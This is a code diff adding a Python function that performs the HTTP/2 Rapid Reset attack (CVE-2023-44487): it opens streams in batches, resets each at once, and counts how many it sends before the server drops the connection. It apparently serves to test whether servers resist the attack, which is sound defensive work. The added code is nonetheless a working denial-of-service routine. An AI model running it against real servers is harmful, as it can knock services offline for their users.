@@ -64,3 +64,33 @@ class RawConnection:
 
     def close(self) -> None:
         self.sock.close()
+
+
+def rapid_reset(address: str, count: int, path: str, batch: int = 200) -> int:
+    """Open `count` streams on one connection, each HEADERS then RST_STREAM at once (the
+    CVE-2023-44487 pattern); returns how many were sent before the server closed it."""
+    connection = RawConnection(address)
+    headers = [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", path),
+        (":authority", address),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+    ]
+    sent = 0
+    try:
+        connection.handshake()
+        while sent < count and not connection.closed:
+            for _ in range(min(batch, count - sent)):
+                stream_id = connection.conn.get_next_available_stream_id()
+                connection.conn.send_headers(stream_id, headers)
+                connection.conn.reset_stream(stream_id)
+                sent += 1
+            connection.flush()
+            # Read what the server answered (SETTINGS, RST_STREAM, WINDOW_UPDATE) so that
+            # neither side's buffers fill up.
+            connection.pump(0.001)
+    finally:
+        connection.close()
+    return sent
